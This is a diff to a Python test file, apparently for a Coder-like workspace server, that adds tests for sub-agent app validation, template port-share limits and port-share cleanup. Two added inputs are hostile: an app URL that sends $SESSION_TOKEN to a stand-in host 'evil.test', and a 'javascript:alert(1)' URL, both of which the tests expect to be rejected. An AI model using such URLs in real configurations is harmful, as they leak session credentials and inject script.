@@ -9,7 +9,12 @@ from uuid import UUID, uuid4
 
 import pytest
 
+from coder.coderd.services.apps.app_access import open_app
+from coder.coderd.services.apps.app_refusals import AppRefusedError
+from coder.coderd.store.workspaces import port_shares as share_store
+from coder.coderd.store.workspaces.port_shares import PortShareRow
 from coder.domain.agents import sub_agents as laws
+from coder.domain.apps.app_addresses import AppRequest
 from coder.net.errors import HttpError
 from coder.rpc.errors import RpcError
 from coder.rpc.proto import agent_pb2, provisioner_pb2
@@ -107,6 +112,8 @@ async def test_applications_are_made_or_told_of_one_by_one() -> None:
         Request.App(slug="nul", url="a\0"),
         Request.App(slug="new", share=UNKNOWN),
         Request.App(slug="newer", open_in=UNKNOWN),
+        Request.App(slug="thief", external=True, url="https://evil.test/?t=$SESSION_TOKEN"),
+        Request.App(slug="script", external=True, url="javascript:alert(1)"),
         Request.App(slug="plain", order=2, group="tools", hidden=True, display_name="Plain"),
     ]
     async with family() as (view, parent):
@@ -116,6 +123,7 @@ async def test_applications_are_made_or_told_of_one_by_one() -> None:
         made = await _make(parent, apps=apps)
         assert [(fault.index, fault.field) for fault in made.app_creation_errors] == [
             (1, "slug"), (2, "slug"), (3, "url"), (4, "share"), (5, "open_in"),
+            (6, "url"), (7, "url"),
         ]  # fmt: skip
         (shown,) = [agent for agent in await _agents(view) if agent["parent_id"]]
         by_end = {app["slug"].partition("-")[2]: app for app in shown["apps"]}
@@ -172,3 +180,76 @@ async def test_the_template_makes_the_agent_of_a_dev_container_with_parts_of_its
         assert not (await eventually(left))[0]["health"]["healthy"]
         health = (await view.world.get(f"/api/v2/workspaces/{view.workspace['id']}")).json()["health"]
         assert health == {"healthy": True, "failing_agents": []}, "a container that is stopped makes no workspace ill"
+
+
+async def _reason(view: AgentWorld, slug: str) -> str:
+    """Why nobody in particular cannot open an application of a container that does not run."""
+    request = AppRequest("subdomain", "/", "admin", "dev", "api", slug)
+    with pytest.raises(AppRefusedError) as refused:
+        await open_app(view.world.ctx, request, None)
+    return refused.value.reason
+
+
+async def _narrow(view: AgentWorld, level: str) -> None:
+    path = f"/api/v2/templates/{view.workspace['template_id']}"
+    changed = await view.world.patch(path, {"max_port_share_level": level})
+    assert changed.status_code == 200, changed.text
+
+
+async def test_a_narrower_limit_of_the_template_counts_for_applications_there_are() -> None:
+    async with family() as (view, parent):
+        app = Request.App(slug="docs", url="http://localhost:8080", share=Request.App.PUBLIC, subdomain=True)
+        await _make(parent, apps=[app])
+        slug = laws.stored_slug("api", "docs")
+        assert await _reason(view, slug) == "agent_offline"
+        for level in ("authenticated", "owner"):
+            await _narrow(view, level)
+            assert await _reason(view, slug) == "sign_in"
+        await _narrow(view, "public")
+        assert await _reason(view, slug) == "agent_offline"
+
+
+async def test_the_templates_own_applications_are_shared_as_it_says() -> None:
+    app = provisioner_pb2.App(slug="docs", url="http://x", sharing_level=provisioner_pb2.AppSharingLevel.PUBLIC)
+    containers = [provisioner_pb2.Devcontainer(id=str(uuid4()), name="api", workspace_folder="/w", apps=[app])]
+    async with family(devcontainers=containers) as (view, _):
+        await _narrow(view, "owner")
+        assert await _reason(view, "docs") == "agent_offline"
+
+
+async def test_shares_of_ports_end_with_a_child_and_are_not_the_next_ones() -> None:
+    async with family() as (view, parent):
+        path = f"/api/v2/workspaces/{view.workspace['id']}/port-share"
+
+        async def shares() -> list[str]:
+            return [share["agent_name"] for share in (await view.world.get(path)).json()["shares"]]
+
+        made = await _make(parent)
+        for name in ("main", "api"):
+            body = {"agent_name": name, "port": 8080, "share_level": "public", "protocol": "http"}
+            assert (await view.world.post(path, body)).status_code == 200
+        request = pb.DeleteSubAgentRequest(id=made.agent.id)
+        await parent.call("DeleteSubAgent", request, pb.DeleteSubAgentResponse)
+        assert await shares() == ["main"]
+        said = (await view.world.get("/api/v2/audit?q=resource_type:workspace&limit=1")).json()["audit_logs"][0]
+        assert list(said["diff"]["port_shares"]["old"]) == ["api 8080", "main 8080"]
+        # Left by one of an earlier build.
+        left = PortShareRow(UUID(view.workspace["id"]), "api", 9090, "public", "http")
+        await view.world.ctx.db.run(share_store.put_port_share, left)
+        await _make(parent)
+        assert await shares() == ["main"]
+
+
+async def test_removed_children_count_for_what_a_build_may_make(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(laws, "MAX_MADE", 3)
+    monkeypatch.setattr(laws, "MAX_APPS_MADE", 3)
+    apps = [Request.App(slug="a", url="http://x"), Request.App(slug="b", url="http://x")]
+    async with family() as (_, parent):
+        for number in range(3):
+            made = await _make(parent, apps=apps if number == 0 else [])
+            with pytest.raises(RpcError, match=r"2 applications .* restart|3 sub-agents were made .* restart"):
+                await _make(parent, "other", apps=apps)
+            request = pb.DeleteSubAgentRequest(id=made.agent.id)
+            await parent.call("DeleteSubAgent", request, pb.DeleteSubAgentResponse)
+        with pytest.raises(RpcError, match="3 sub-agents were made since this build"):
+            await _make(parent)
